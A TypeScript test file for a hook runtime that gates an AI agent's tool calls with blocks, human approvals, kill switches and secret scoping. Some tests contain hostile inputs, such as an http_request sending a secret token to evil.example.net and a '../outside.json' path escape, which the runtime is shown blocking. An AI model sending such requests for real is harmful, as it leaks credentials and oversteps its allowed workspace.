import { getEventListeners } from "node:events";
import { mkdtemp, readFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { describe, expect, it, vi } from "vitest";
import type { LedgerEntry } from "./ledger";
import { createHookRuntime } from "./runtime";
import type { RuntimeHook } from "./runtime-types";
import { approvals, event, hook, toolPre } from "./testing/fakes";

const noProd = hook({
  id: "no-prod",
  event: "tool.pre",
  action: { type: "block", reason: "Production paths are off-limits in this session.", denyIf: "/srv/prod" },
});

describe("dispatch basics", () => {
  it("costs nothing when no hook is bound to the event", async () => {
    const runtime = createHookRuntime();
    const result = await runtime.dispatch([noProd], event("model.pre"));
    expect(result).toMatchObject({ verdict: "allow", ledger: [], context: [], reminders: [] });
  });

  it("runs in-process hooks synchronously: no timer is created", async () => {
    vi.useFakeTimers();
    try {
      const result = await createHookRuntime().dispatch([noProd], toolPre("write", { file_path: "/srv/prod/a" }));
      expect(result.verdict).toBe("block");
      expect(vi.getTimerCount()).toBe(0);
    } finally {
      vi.useRealTimers();
    }
  });

  it("blocks with the reason and a reminder for the model", async () => {
    const result = await createHookRuntime().dispatch([noProd], toolPre("write_file", { file_path: "/srv/prod/db.yml" }));
    expect(result).toMatchObject({ verdict: "block", blockedBy: "no-prod", reason: "Production paths are off-limits in this session." });
    expect(result.reminders).toEqual(["hook no-prod blocked write_file: Production paths are off-limits in this session."]);
    expect(result.ledger[0]).toMatchObject({ hookId: "no-prod", hookVersion: 1, matched: true, verdict: "block", mode: "enforce" });
  });

  it("allows when denyIf does not match, and records why", async () => {
    const result = await createHookRuntime().dispatch([noProd], toolPre("write_file", { file_path: "/home/me/a" }));
    expect(result.verdict).toBe("allow");
    expect(result.ledger[0]).toMatchObject({ matched: true, verdict: "allow", reason: "denyIf //srv/prod/ did not match" });
  });
});

describe("execution order and chain rules", () => {
  const blockAll = (id: string, scope = "global") => hook({ id, event: "tool.pre", scope, action: { type: "block", reason: id } });
  const ctx = (id: string, scope = "global") => hook({ id, event: "tool.pre", scope, action: { type: "context", text: id } });

  it("orders hooks global, agent, schedule, keeping order within a scope", async () => {
    const hooks = [ctx("s1", "schedule:daily"), ctx("a1", "agent:price-checker"), ctx("g1"), ctx("a2", "agent:price-checker"), ctx("g2")];
    const result = await createHookRuntime().dispatch(hooks, toolPre("x", {}, { scheduleId: "daily" }));
    expect(result.context).toEqual(["g1", "g2", "a1", "a2", "s1"]);
  });

  it("applies agent and schedule scopes only to their agent and schedule", async () => {
    const result = await createHookRuntime().dispatch([ctx("other", "agent:deployer"), ctx("sched", "schedule:daily")], toolPre("x"));
    expect(result.context).toEqual([]);
    expect(result.ledger.map((e) => e.reason)).toEqual([
      "scope agent:deployer does not apply to agent price-checker",
      "scope schedule:daily does not apply to a run without a schedule",
    ]);
  });

  it("stops at the first block and records the rest as not run", async () => {
    const result = await createHookRuntime().dispatch([ctx("before"), blockAll("first"), blockAll("second")], toolPre("x"));
    expect(result).toMatchObject({ verdict: "block", blockedBy: "first", context: ["before"] });
    expect(result.ledger[2]).toMatchObject({ hookId: "second", matched: false, reason: "not run: hook first blocked" });
  });

  it("records a block on an informational event but ignores it", async () => {
    const hooks = [hook({ id: "b", event: "tool.post", action: { type: "block", reason: "too late" } }), hook({ id: "c", event: "tool.post", action: { type: "context", text: "after" } })];
    const result = await createHookRuntime().dispatch(hooks, event("tool.post", { toolName: "x", output: "ok" }));
    expect(result.verdict).toBe("allow");
    expect(result.ledger[0]).toMatchObject({ verdict: "block", ignored: true });
    expect(result.context).toEqual(["after"]);
    expect(result.reminders[0]).toContain("hook b blocked x: too late");
  });

  it("says why each hook did not match", async () => {
    const hooks: RuntimeHook[] = [
      hook({ id: "off", event: "session.end", enabled: false, action: { type: "log" } }),
      hook({ id: "outcome", event: "session.end", onOutcomes: ["failed"], action: { type: "log" } }),
      hook({ id: "match", event: "session.end", matcher: "deployer", action: { type: "log" } }),
      hook({ id: "when", event: "session.end", when: "metadata.shouldNotify", action: { type: "log" } }),
      hook({ id: "runs", event: "session.end", action: { type: "log", message: "{{response}}" } }),
    ];
    const result = await createHookRuntime().dispatch(hooks, event("session.end", { outcome: "completed", response: "done" }));
    expect(result.ledger.map((e) => [e.hookId, e.matched, e.reason])).toEqual([
      ["off", false, "disabled"],
      ["outcome", false, "outcome completed not in onOutcomes [failed]"],
      ["match", false, "matcher deployer did not match agent price-checker"],
      ["when", false, "when metadata.shouldNotify is falsy"],
      ["runs", true, "logged: done"],
    ]);
  });

  it("the kill switch disables every hook, checked on every dispatch", async () => {
    let killed = true;
    const runtime = createHookRuntime({ killSwitch: () => killed });
    const first = await runtime.dispatch([noProd], toolPre("w", { file_path: "/srv/prod" }));
    expect(first.verdict).toBe("allow");
    expect(first.ledger[0]).toMatchObject({ matched: false, reason: "kill switch: every hook is disabled" });
    killed = false;
    expect((await runtime.dispatch([noProd], toolPre("w", { file_path: "/srv/prod" }))).verdict).toBe("block");
  });

  it("shadow mode records what it would have done and never blocks", async () => {
    const shadow = hook({ id: "s", event: "tool.pre", mode: "shadow", action: { type: "block", reason: "would block" } });
    const result = await createHookRuntime().dispatch([shadow, ctx("next")], toolPre("x"));
    expect(result.verdict).toBe("allow");
    expect(result.context).toEqual(["next"]);
    expect(result.reminders).toEqual(["next"]);
    expect(result.ledger[0]).toMatchObject({ mode: "shadow", verdict: "block", ignored: true, reason: "would block" });
  });

  it("shadow approve does not ask anybody", async () => {
    const port = approvals({ decision: "deny", timedOut: false });
    const h = hook({ id: "ask", event: "tool.pre", mode: "shadow", action: { type: "approve" } });
    const result = await createHookRuntime({ approvals: port }).dispatch([h], toolPre("shell"));
    expect(result.verdict).toBe("allow");
    expect(port.requests).toHaveLength(0);
    expect(result.ledger[0].reason).toContain("shadow: would ask a person");
  });
});

describe("failures", () => {
  it("never throws: a broken stored hook fails under onFailure", async () => {
    const broken = { ...noProd, id: "broken", action: { type: "block" as const, reason: "x", denyIf: "(" } };
    const result = await createHookRuntime().dispatch([broken], toolPre("w"));
    expect(result).toMatchObject({ verdict: "block", blockedBy: "broken" });
    expect(result.ledger[0]).toMatchObject({ failed: true, reason: expect.stringContaining("invalid action: invalid regex") });
  });

  it("fails closed for gates on blocking events, open for notifications", async () => {
    const runtime = createHookRuntime({ allowCodeExecution: false });
    const gate = hook({ id: "gate", event: "tool.pre", action: { type: "command", command: "true" } });
    const notify = hook({ id: "notify", event: "session.end", action: { type: "command", command: "true" } });
    const blocked = await runtime.dispatch([gate], toolPre("x"));
    expect(blocked.verdict).toBe("block");
    expect(blocked.reason).toBe("command hook gate not run: running code on this server is off (the server's operator turns it on with HOOKPLANE_ALLOW_CODE_EXECUTION=1)");
    const ended = await runtime.dispatch([notify], event("session.end", { outcome: "completed" }));
    expect(ended.verdict).toBe("allow");
    expect(ended.ledger[0]).toMatchObject({ failed: true, verdict: "allow" });
    expect(ended.ledger[0].reason).toContain("(onFailure: continue)");
  });

  it("refuses code hooks without the trust switch", async () => {
    const h = hook({ id: "code", event: "tool.pre", onFailure: "continue", action: { type: "code", module: "x" } });
    const result = await createHookRuntime().dispatch([h], toolPre("x"));
    expect(result.verdict).toBe("allow");
    expect(result.ledger[0].reason).toContain("HOOKPLANE_ALLOW_CODE_EXECUTION=1");
  });

  it("refuses a tool hook naming the shell without the switch, and never calls the tool", async () => {
    const calls: string[] = [];
    const tools = { call: async (name: string) => (calls.push(name), { output: "ran" }) };
    const shell = hook({ id: "sh", event: "tool.pre", action: { type: "tool", tool: "shell", args: { command: "id -un" } } });
    const memory = hook({ id: "mem", event: "tool.pre", action: { type: "tool", tool: "memory", args: { action: "read", file: "a.md" } } });
    const off = await createHookRuntime({ tools }).dispatch([memory, shell], toolPre("x"));
    expect(off).toMatchObject({ verdict: "block", blockedBy: "sh", reason: expect.stringContaining("tool hook sh not run: running code on this server is off") });
    expect(calls).toEqual(["memory"]);
    const on = await createHookRuntime({ tools, allowCodeExecution: true }).dispatch([shell], toolPre("x"));
    expect(on.verdict).toBe("allow");
    expect(calls).toEqual(["memory", "shell"]);
  });

  it("a throwing port resolves to a failure, not an exception", async () => {
    const h = hook({ id: "t", event: "tool.pre", action: { type: "tool", tool: "memory" } });
    const runtime = createHookRuntime({ tools: { call: async () => { throw new Error("boom"); } } });
    const result = await runtime.dispatch([h], toolPre("x"));
    expect(result).toMatchObject({ verdict: "block", reason: "the hook threw: boom" });
  });

  it("a hung tool times out at the hook's timeout and the timer is cleared", async () => {
    const h = hook({ id: "slow", event: "session.start", timeoutMs: 50, action: { type: "tool", tool: "memory" } });
    let aborted = false;
    const runtime = createHookRuntime({
      tools: { call: (_n, _a, signal) => new Promise(() => signal?.addEventListener("abort", () => (aborted = true))) },
    });
    const result = await runtime.dispatch([h], event("session.start", { prompt: "hi" }));
    expect(result).toMatchObject({ verdict: "block", reason: "timed out after 50 ms" });
    expect(result.ledger[0]).toMatchObject({ timedOut: true, failed: true });
    expect(aborted).toBe(true);
  });

  it("removes every abort listener it adds to the run's signal", async () => {
    const controller = new AbortController();
    const h = hook({ id: "t", event: "tool.pre", action: { type: "tool", tool: "memory" } });
    const runtime = createHookRuntime({ tools: { call: async () => ({ output: "" }) } });
    for (let i = 0; i < 50; i++) await runtime.dispatch([h, noProd], toolPre("x"), { signal: controller.signal });
    expect(getEventListeners(controller.signal, "abort")).toHaveLength(0);
  });

  it("an aborted run fails async hooks without running them", async () => {
    const call = vi.fn(async () => ({ output: "" }));
    const h = hook({ id: "t", event: "tool.pre", action: { type: "tool", tool: "memory" } });
    const result = await createHookRuntime({ tools: { call } }).dispatch([h], toolPre("x"), { signal: AbortSignal.abort() });
    expect(call).not.toHaveBeenCalled();
    expect(result.verdict).toBe("block");
    expect(result.reason).toContain("aborted");
  });

  it("a failure with onFailure block on an informational event stops the chain (herdctl)", async () => {
    const hooks = [
      hook({ id: "critical", event: "session.end", onFailure: "block", action: { type: "tool", tool: "missing" } }),
      hook({ id: "after", event: "session.end", action: { type: "log" } }),
    ];
    const runtime = createHookRuntime({ tools: { call: async () => ({ output: "no such tool", isError: true }) } });
    const result = await runtime.dispatch(hooks, event("session.end", { outcome: "completed" }));
    expect(result.verdict).toBe("allow");
    expect(result.ledger[0]).toMatchObject({ failed: true, verdict: "block", ignored: true });
    expect(result.ledger[1]).toMatchObject({ matched: false, reason: "not run: hook critical failed and its onFailure stops the chain" });
  });

  it("hands the ledger to the sink once per dispatch; a failing sink is only logged", async () => {
    const batches: LedgerEntry[][] = [];
    const errors: string[] = [];
    const runtime = createHookRuntime({
      ledger: { record: (entries) => { batches.push([...entries]); throw new Error("db down"); } },
      logger: { warn() {}, error: (m) => errors.push(m) },
    });
    const result = await runtime.dispatch([noProd, hook({ id: "b", event: "tool.pre", action: { type: "log" } })], toolPre("x"));
    expect(result.verdict).toBe("allow");
    expect(batches).toHaveLength(1);
    expect(batches[0].map((e) => e.hookId)).toEqual(["no-prod", "b"]);
    expect(errors).toEqual(["hook ledger sink failed"]);
  });
});

describe("approve", () => {
  const gate = (action: Record<string, unknown> = {}) => hook({ id: "gate", event: "tool.pre", action: { type: "approve", ...action } as never });

  it("asks the port with the tool call and allows on approve", async () => {
    const port = approvals({ decision: "approve", decidedBy: "ada", timedOut: false });
    const result = await createHookRuntime({ approvals: port }).dispatch([gate({ timeoutMs: 60_000 })], toolPre("shell", { cmd: "ls" }));
    expect(port.requests[0]).toMatchObject({ runId: "run-1", hookId: "gate", toolName: "shell", toolInput: { cmd: "ls" }, toolCallId: "call-1", timeoutMs: 60_000, onTimeout: "deny" });
    expect(result.verdict).toBe("allow");
    expect(result.approval).toMatchObject({ hookId: "gate", decision: "approve", decidedBy: "ada", timedOut: false });
    expect(result.ledger[0].reason).toBe("approved by ada");
  });

  it("blocks on a person's deny, with their reason", async () => {
    const port = approvals({ decision: "deny", decidedBy: "ada", reason: "not today", timedOut: false });
    const result = await createHookRuntime({ approvals: port }).dispatch([gate()], toolPre("shell"));
    expect(result).toMatchObject({ verdict: "block", reason: "denied by ada: not today" });
  });

  it("enforces the timeout itself when the port never answers, recorded as a timeout", async () => {
    const port = approvals(undefined);
    const result = await createHookRuntime({ approvals: port }).dispatch([gate({ timeoutMs: 30 })], toolPre("shell"));
    expect(result.verdict).toBe("block");
    expect(result.approval).toMatchObject({ decision: "deny", timedOut: true });
    expect(result.ledger[0].reason).toContain("approval timed out (onTimeout: deny)");
    expect(result.ledger[0]).toMatchObject({ timedOut: true, failed: false });
    expect(port.signals[0]?.aborted).toBe(true);
  });

  it("a port that settles the timeout itself a moment after timeoutMs is the one heard, not the runtime's backstop", async () => {
    // A durable port wakes at its deadline and records the timeout before it answers.
    const settled = { decision: "deny" as const, timedOut: true, reason: "settled by the port at its deadline", decidedVia: "timeout" };
    const port = approvals(settled, 60);
    const result = await createHookRuntime({ approvals: port }).dispatch([gate({ timeoutMs: 20 })], toolPre("shell"));
    expect(result.approval).toMatchObject(settled);
    expect(result.ledger[0].reason).toContain("settled by the port at its deadline");
    // Heard out: nobody told the port its caller stopped waiting.
    expect(port.signals[0]?.aborted).toBe(false);
  });

  it("onTimeout allow lets the call through, still as a timeout", async () => {
    const result = await createHookRuntime({ approvals: approvals(undefined) }).dispatch([gate({ timeoutMs: 30, onTimeout: "allow" })], toolPre("shell"));
    expect(result.verdict).toBe("allow");
    expect(result.approval).toMatchObject({ decision: "approve", timedOut: true });
  });

  it("onTimeout wait keeps waiting past timeoutMs for the person", async () => {
    const port = approvals({ decision: "approve", decidedBy: "late", timedOut: false }, 80);
    const result = await createHookRuntime({ approvals: port }).dispatch([gate({ timeoutMs: 20, onTimeout: "wait" })], toolPre("shell"));
    expect(result.verdict).toBe("allow");
    expect(result.approval?.decidedBy).toBe("late");
  });

  it("a port-reported timeout is kept apart from a person's no", async () => {
    const port = approvals({ decision: "deny", timedOut: true, reason: "30 min" });
    const result = await createHookRuntime({ approvals: port }).dispatch([gate()], toolPre("shell"));
    expect(result.ledger[0]).toMatchObject({ verdict: "block", approval: { timedOut: true } });
    expect(result.reason).toContain("timed out");
  });

  it("without an approval port it fails closed", async () => {
    const result = await createHookRuntime().dispatch([gate()], toolPre("shell"));
    expect(result).toMatchObject({ verdict: "block", reason: "no approval port is configured, nobody can be asked" });
  });
});

describe("tool, context, log, save_json actions", () => {
  it("templates tool args with the entry point's vars; a secret reaches only http_request's credentials", async () => {
    const calls: unknown[] = [];
    const asked: string[] = [];
    const runtime = createHookRuntime({
      tools: { call: async (name, args) => (calls.push({ name, args }), { output: "" }) },
      secrets: { get: (name) => (asked.push(name), name === "API_KEY" ? { value: "k-123456", hosts: ["api.example.com"] } : undefined) },
    });
    const memory = hook({ id: "m", event: "session.end", action: { type: "tool", tool: "memory", args: { content: "{{response}} / {{last_run}}" } } });
    const http = hook({
      id: "h",
      event: "session.end",
      action: { type: "tool", tool: "http_request", args: { url: "https://api.example.com/{{runId}}", headers: { authorization: "Bearer ${secret:API_KEY}", "x-note": "{{response}}" } } },
    });
    await runtime.dispatch([memory, http], event("session.end", { outcome: "completed", response: "all good ${secret:API_KEY}" }, { vars: { last_run: "2024-01-14" } }));
    expect(calls).toEqual([
      { name: "memory", args: { content: "all good ${secret:API_KEY} / 2024-01-14" } },
      // A reference inside a variable's value (text the model wrote) is never substituted.
      { name: "http_request", args: { url: "https://api.example.com/run-1", headers: { authorization: "Bearer k-123456", "x-note": "all good ${secret:API_KEY}" } } },
    ]);
    expect(asked).toEqual(["API_KEY"]);
  });

  it("a secret in a tool's input fails the hook, and an http_request to a host the secret does not list sends nothing", async () => {
    const calls: unknown[] = [];
    const runtime = createHookRuntime({
      tools: { call: async (name, args) => (calls.push({ name, args }), { output: "" }) },
      secrets: { get: () => ({ value: "super-secret-token", hosts: ["api.example.com"] }) },
    });
    const file = hook({ id: "f", event: "session.start", action: { type: "tool", tool: "write_file", args: { path: "x", content: "${secret:TOKEN}" } } });
    const elsewhere = hook({ id: "e", event: "session.start", action: { type: "tool", tool: "http_request", args: { url: "https://evil.example.net/", headers: { authorization: "${secret:TOKEN}" } } } });
    const refused = await runtime.dispatch([file], event("session.start"));
    expect(refused).toMatchObject({ verdict: "block", reason: expect.stringMatching(/^invalid action: action\.args\.content: \$\{secret:TOKEN\} cannot be used here/) });
    const unbound = await runtime.dispatch([elsewhere], event("session.start"));
    expect(unbound).toMatchObject({ verdict: "block", reason: "secret TOKEN may not be sent to evil.example.net: its hosts, set by an admin with the secret, do not include it" });
    expect(calls).toEqual([]);
  });

  it("redacts secret values from everything stored and shown", async () => {
    const runtime = createHookRuntime({
      tools: { call: async (_n, args) => ({ output: `token was ${String((args.headers as Record<string, string>).authorization)}` }) },
      secrets: { get: () => ({ value: "super-secret-token", hosts: ["api.example.com"] }) },
    });
    const h = hook({ id: "t", event: "session.start", action: { type: "tool", tool: "http_request", args: { url: "https://api.example.com/", headers: { authorization: "${secret:TOKEN}" } } } });
    const result = await runtime.dispatch([h], event("session.start"));
    expect(JSON.stringify(result)).not.toContain("super-secret-token");
    expect(result.output).toBe("token was [REDACTED]");
    expect(result.ledger[0].stdout).toBe("token was [REDACTED]");
  });

  it("save_json writes the context inside the workspace only", async () => {
    const dir = await mkdtemp(path.join(tmpdir(), "hooks-ws-"));
    const runtime = createHookRuntime();
    const ok = hook({ id: "save", event: "session.end", action: { type: "save_json", path: "runs/{{runId}}.json" } });
    const escape = hook({ id: "escape", event: "session.end", action: { type: "save_json", path: "../outside.json" } });
    const result = await runtime.dispatch([ok, escape], event("session.end", { outcome: "completed", response: "r" }, { workspaceDir: dir }));
    const saved = JSON.parse(await readFile(path.join(dir, "runs", "run-1.json"), "utf8"));
    expect(saved).toMatchObject({ event: "session.end", result: { success: true, output: "r" } });
    expect(result.ledger[1]).toMatchObject({ failed: true, reason: expect.stringContaining("outside the agent's workspace") });
  });

  it("injects context on model.pre for this very call", async () => {
    const h = hook({ id: "fresh", event: "model.pre", action: { type: "context", text: "Turn {{turn}} of the run {{runId}}" } });
    const result = await createHookRuntime().dispatch([h], event("model.pre", { turn: 3, messageCount: 5 }));
    expect(result.context).toEqual(["Turn 3 of the run run-1"]);
  });
});
